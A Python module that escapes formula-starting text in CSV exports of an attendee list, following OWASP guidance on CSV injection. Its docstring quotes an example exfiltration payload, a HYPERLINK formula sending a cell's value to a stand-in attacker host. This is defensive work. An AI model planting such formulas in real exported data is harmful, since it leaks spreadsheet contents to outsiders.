"""Files people open in a spreadsheet: every cell is text, never a formula.

A member's name or note such as ``=HYPERLINK("http://evil.example/?x="&A2,"Click")``
would run as a formula when a coordinator opens the attendee list in Excel,
LibreOffice or Google Sheets (CSV or formula injection). Following OWASP (the CSV
Injection page and ASVS 5.0 requirement 1.2.10): a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab, a carriage return, a line feed or a NUL, also after
leading spaces (spreadsheets trim them before they look), gets a single quote in
front, which spreadsheets read as "this is text"; and every cell is quoted as
RFC 4180 says (quotes inside are doubled), so separators inside a value stay inside.

Numbers (``int``, ``float``, ``Decimal``) are not text a person typed: they are
written as they are, so a negative number stays a number.
"""

import csv
import io
from collections.abc import Iterable
from decimal import Decimal

# Full-width forms too: some spreadsheets read them as the ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def spreadsheet_safe(value) -> object:
    """``value`` as a spreadsheet must show it: text that could start a formula gets
    a leading ``'``; numbers, ``None`` (an empty cell) and other text stay as they are."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def rows_as_csv(header: Iterable[str], rows: Iterable[Iterable]) -> str:
    """A whole CSV file (RFC 4180: every cell quoted, CRLF between rows), the header
    first, every cell through ``spreadsheet_safe``."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([spreadsheet_safe(value) for value in row] for row in rows)
    return out.getvalue()
